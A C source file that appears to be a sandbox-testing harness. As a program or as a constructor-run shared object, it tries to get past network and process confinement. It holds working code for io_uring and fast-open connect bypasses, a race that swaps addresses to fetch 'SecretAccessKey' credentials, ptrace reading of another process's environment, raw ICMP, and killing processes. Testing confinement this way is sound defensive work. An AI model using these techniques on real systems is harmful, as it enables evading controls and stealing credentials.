// Attacks that need the system calls themselves. Compiled twice: as a static program, and as a shared object whose
// constructor runs inside the process that loads it, which is what an attacker with control of the service's code does
// with process.dlopen and a file that he wrote: no execve is needed.
//
//   native get WAY ADDRESS PORT PATH       one HTTP request; WAY: tcp, mptcp, sendto, sendmsg (both fast open) or uring
//   native race NAME ADDRESS ADDRESS PORT PATH
//                                          the same, while a second thread changes the address that connect(2) was given
//   native ping ADDRESS                    an ICMP echo over a raw socket
//   native trace PID NAME                  reads a variable of another process's environment by ptrace(2)
//   native kill PID                        sends SIGTERM
//
// The shared object takes the same words from LAB_ATTACK and writes to the file that LAB_RESULT names. The result is "ok"
// and what was got, or the call that was refused and the name of its error.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static char result[4096];

static int refused(const char *call) {
	snprintf(result, sizeof result, "%s %s", call, strerrorname_np(errno));
	return 1;
}

static int got(const char *what) {
	snprintf(result, sizeof result, "ok %.4000s", what);
	return 0;
}

static struct sockaddr_in to(const char *address, const char *port) {
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
	inet_pton(AF_INET, address, &a.sin_addr);
	return a;
}

// uring_connect connects without connect(2): the kernel does it on behalf of a queue in shared memory.
static int uring_connect(int s, struct sockaddr_in *a) {
	struct io_uring_params p = {0};
	int ring = syscall(SYS_io_uring_setup, 4, &p);
	if (ring < 0)
		return refused("io_uring_setup");
	size_t submissions = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t completions = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	int prot = PROT_READ | PROT_WRITE, flags = MAP_SHARED | MAP_POPULATE;
	char *sq = mmap(0, submissions, prot, flags, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(0, completions, prot, flags, ring, IORING_OFF_CQ_RING);
	struct io_uring_sqe *sqe = mmap(0, p.sq_entries * sizeof *sqe, prot, flags, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || (void *)sqe == MAP_FAILED)
		return refused("mmap");
	*sqe = (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = s, .addr = (unsigned long)a, .off = sizeof *a};
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail), mask = *(unsigned *)(sq + p.sq_off.ring_mask);
	((unsigned *)(sq + p.sq_off.array))[*tail & mask] = 0;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0)
		return refused("io_uring_enter");
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	int res = cqes[*(unsigned *)(cq + p.cq_off.head) & *(unsigned *)(cq + p.cq_off.ring_mask)].res;
	close(ring);
	if (res < 0) {
		errno = -res;
		return refused("io_uring connect");
	}
	return 0;
}

static const struct timeval patience = {.tv_sec = 5};

// fetch sends a request unless it was sent already, and reads the whole answer.
static int fetch(int s, const char *request, char *answer, size_t size) {
	size_t have = 0;
	if (request && write(s, request, strlen(request)) < 0)
		return refused("write");
	for (ssize_t r; have < size - 1 && (r = read(s, answer + have, size - 1 - have)) != 0; have += r)
		if (r < 0)
			return refused("read");
	answer[have] = 0;
	return 0;
}

static int get(const char *way, const char *address, const char *port, const char *path) {
	char request[512], answer[4096];
	int n = snprintf(request, sizeof request,
		"GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", path, address);
	struct sockaddr_in a = to(address, port);
	int s = socket(AF_INET, SOCK_STREAM, strcmp(way, "mptcp") ? 0 : IPPROTO_MPTCP), sent = 0;
	if (s < 0)
		return refused("socket");
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
	if (!strcmp(way, "sendto")) {
		if (sendto(s, request, n, MSG_FASTOPEN, (void *)&a, sizeof a) < 0)
			return refused("sendto");
		sent = 1;
	} else if (!strcmp(way, "sendmsg")) {
		struct iovec v = {request, n};
		struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1};
		if (sendmsg(s, &m, MSG_FASTOPEN) < 0)
			return refused("sendmsg");
		sent = 1;
	} else if (!strcmp(way, "uring")) {
		if (uring_connect(s, &a))
			return 1;
	} else if (connect(s, (void *)&a, sizeof a) < 0) {
		return refused("connect");
	}
	if (fetch(s, sent ? 0 : request, answer, sizeof answer))
		return 1;
	close(s);
	return got(answer);
}

static volatile struct sockaddr_in flipping;
static volatile int flip;

static void *flipper(void *both) {
	struct sockaddr_in *a = both;
	for (unsigned i = 0; flip; i++)
		flipping.sin_addr.s_addr = a[i & 1].sin_addr.s_addr;
	return 0;
}

// race connects to an address that is allowed at one moment and another at the next: whoever judges it before the kernel
// reads it, has judged nothing.
static int race(const char *name, const char *allowed, const char *address, const char *port, const char *path) {
	char request[512], answer[4096];
	snprintf(request, sizeof request,
		"GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", path, name);
	struct sockaddr_in both[2] = {to(allowed, port), to(address, port)};
	pthread_t thread;
	*(struct sockaddr_in *)&flipping = both[0];
	flip = 1;
	if (pthread_create(&thread, 0, flipper, both))
		return refused("pthread_create");
	int connected = 0;
	snprintf(result, sizeof result, "never refused");
	for (int i = 0; i < 300; i++) {
		int s = socket(AF_INET, SOCK_STREAM, 0);
		setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
		if (connect(s, (void *)&flipping, sizeof flipping) < 0)
			refused("connect");
		else if (fetch(s, request, answer, sizeof answer) == 0 && ++connected && strstr(answer, "SecretAccessKey"))
			i = 300;
		close(s);
	}
	flip = 0;
	pthread_join(thread, 0);
	return connected && strstr(answer, "SecretAccessKey") ? got(answer) : 1;
}

static int ping(const char *address) {
	struct sockaddr_in a = to(address, "0");
	struct icmphdr echo = {.type = ICMP_ECHO, .un.echo.id = htons(0x1ab)};
	unsigned sum = 0;
	for (size_t i = 0; i < sizeof echo / 2; i++)
		sum += ((unsigned short *)&echo)[i];
	echo.checksum = ~((sum & 0xffff) + (sum >> 16));
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (s < 0)
		return refused("socket");
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
	if (sendto(s, &echo, sizeof echo, 0, (void *)&a, sizeof a) < 0)
		return refused("sendto");
	for (int tries = 0; tries < 16; tries++) {
		unsigned char packet[512];
		ssize_t n = recv(s, packet, sizeof packet, 0);
		if (n < 0)
			return refused("recv");
		struct icmphdr *answer = (void *)(packet + (packet[0] & 15) * 4);
		if (answer->type == ICMP_ECHOREPLY && answer->un.echo.id == echo.un.echo.id)
			return got("an echo reply to a packet made by hand");
	}
	return got("no reply");
}

// environment finds where another process keeps its variables: fields 50 and 51 of proc(5)'s stat.
static int environment(pid_t pid, unsigned long *from, unsigned long *end) {
	char path[64], line[2048];
	snprintf(path, sizeof path, "/proc/%d/stat", pid);
	FILE *f = fopen(path, "r");
	if (!f)
		return refused("open stat");
	char *at = fgets(line, sizeof line, f) ? strrchr(line, ')') : 0;
	fclose(f);
	for (int field = 2; at && field < 50; field++)
		at = strchr(at + 1, ' ');
	*from = *end = 0;
	if (at)
		sscanf(at, "%lu %lu", from, end);
	return 0;
}

static int trace(pid_t pid, const char *name) {
	unsigned long from, end;
	char text[16384] = "";
	if (environment(pid, &from, &end))
		return 1;
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return refused("ptrace");
	waitpid(pid, 0, __WALL);
	size_t have = 0;
	for (unsigned long at = from; at < end && have + 2 * sizeof(long) < sizeof text; at += sizeof(long), have += sizeof(long)) {
		errno = 0;
		long word = ptrace(PTRACE_PEEKDATA, pid, at, 0);
		if (errno)
			break;
		memcpy(text + have, &word, sizeof word);
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	for (char *v = text; v < text + have; v += strlen(v) + 1)
		if (!strncmp(v, name, strlen(name)))
			return got(v);
	return got("no such variable");
}

static int attack(int n, char **word) {
	if (n == 5 && !strcmp(word[0], "get"))
		return get(word[1], word[2], word[3], word[4]);
	if (n == 6 && !strcmp(word[0], "race"))
		return race(word[1], word[2], word[3], word[4], word[5]);
	if (n == 2 && !strcmp(word[0], "ping"))
		return ping(word[1]);
	if (n == 3 && !strcmp(word[0], "trace"))
		return trace(atoi(word[1]), word[2]);
	if (n == 2 && !strcmp(word[0], "kill"))
		return kill(atoi(word[1]), SIGTERM) < 0 ? refused("kill") : got("SIGTERM sent");
	errno = EINVAL;
	return refused("native");
}

#ifdef SHARED
__attribute__((constructor)) static void loaded(void) {
	char *line = getenv("LAB_ATTACK"), *path = getenv("LAB_RESULT"), *word[8];
	if (!line || !path)
		return;
	int n = 0;
	line = strdup(line);
	for (char *w = strtok(line, " "); w && n < 8; w = strtok(0, " "))
		word[n++] = w;
	attack(n, word);
	free(line);
	FILE *f = fopen(path, "w");
	if (!f)
		return;
	fputs(result, f);
	fclose(f);
}
#else
int main(int n, char **word) {
	int code = attack(n - 1, word + 1);
	puts(result);
	return code;
}
#endif
